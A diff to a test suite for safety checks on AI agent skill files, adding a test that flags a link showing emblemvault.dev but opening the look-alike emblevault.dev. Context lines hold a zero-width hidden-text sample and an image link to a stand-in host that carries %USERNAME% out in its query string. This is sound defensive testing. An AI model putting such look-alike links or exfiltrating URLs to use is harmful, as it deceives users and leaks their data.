@@ -109,6 +109,12 @@ describe('safety checks: right on what they flag', () => {
     assert.deepEqual(codesOf('ig\u200bnore'), ['hidden-text@4']);
   });
 
+  test('link-mismatch: a bare domain shown, a look-alike domain opened (met in a registry skill)', () => {
+    const f = ofCode(safetyFindings('ops', skillFile('ops', '- **官方网站**：[emblemvault.dev](https://emblevault.dev) – 项目官方网站')), 'link-mismatch');
+    assert.equal(f.length, 1);
+    assert.match(f[0]!.message.en, /shows emblemvault\.dev but the link goes to emblevault\.dev/);
+  });
+
   test('url-exfiltration: percent-encoding is not a %VARIABLE%', () => {
     assert.deepEqual(codesOf('<img src="https://img.shields.io/badge/python-%E2%89%A53.10-5be.svg">'), []);
     assert.deepEqual(codesOf('![x](https://t.example/p?u=%USERNAME%)'), ['url-exfiltration@4']);
